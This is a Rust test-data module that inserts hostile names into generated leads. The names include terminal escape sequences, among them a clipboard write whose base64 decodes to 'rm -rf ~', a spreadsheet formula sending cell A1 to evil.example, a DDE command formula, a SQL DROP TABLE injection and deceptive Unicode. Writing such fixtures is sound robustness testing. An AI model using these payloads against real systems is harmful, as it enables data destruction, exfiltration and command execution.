//! Names that try something: on a terminal, in a spreadsheet, in a log, in a layout.

/// Every this many leads one has a hostile name.
pub const EVERY: u64 = 331;
/// The first of them.
pub const FIRST: u64 = 41;

/// First and last name.
pub type Name = (String, String);

/// The kinds, in the order in which they appear.
pub fn names() -> Vec<Name> {
    let long: String = "Wolfeschlegelsteinhausenbergerdorff ".chars().cycle().take(5_000).collect();
    let stacked: String =
        "Zalgo".chars().flat_map(|c| std::iter::once(c).chain(('\u{300}'..='\u{33f}').take(40))).collect();
    [
        // Clears the screen, goes home, changes the colours.
        ("\x1b[2J\x1b[H\x1b[31;1mRobert", "Clear"),
        // Writes to the clipboard.
        ("Eve\x1b]52;c;cm0gLXJmIH4K\x07", "Clipboard"),
        // Sets the title of the window, ended both ways.
        ("\x1b]0;all your leads\x07Mallory", "\x1b]2;second title\x1b\\Title"),
        // Bell, backspaces, delete, a tab and a carriage return.
        ("Bell\x07\x08\x08\x08\x7f", "Tab\tReturn\rOver"),
        // Turns the direction of what follows.
        ("\u{202e}gnp.tcartnoc", "Reverse\u{2066}\u{200f}\u{2069}"),
        (long.as_str(), "Long"),
        // No name at all.
        ("", ""),
        // Starts a formula in a spreadsheet.
        ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click me\")", "Formula"),
        ("Line one\nLine two", "Newline\r\nLine three"),
        // The same escapes as one character each, as some terminals still read them.
        ("\u{9b}2J\u{9b}31mRed", "\u{9d}0;title\u{9c}Eightbit"),
        ("+cmd|' /C calc'!A0", "@SUM(1+1)*9"),
        (stacked.as_str(), "Stacked"),
        // Looks empty and is not.
        ("\u{a0}\u{200b}\u{2003}\u{feff}", "\u{2028}\u{2029}\u{3164}"),
        ("'; DROP TABLE leads; --", "Bobby \"Tables\", Jr."),
        ("Nul\0Byte", "\u{fffd}\u{fffe}\u{10ffff}"),
    ]
    .into_iter()
    .map(|(first, last)| (first.to_owned(), last.to_owned()))
    .collect()
}

/// The kind of a lead's name, where it is hostile.
pub fn kind(number: u64) -> Option<usize> {
    (number % EVERY == FIRST).then_some((number / EVERY) as usize)
}
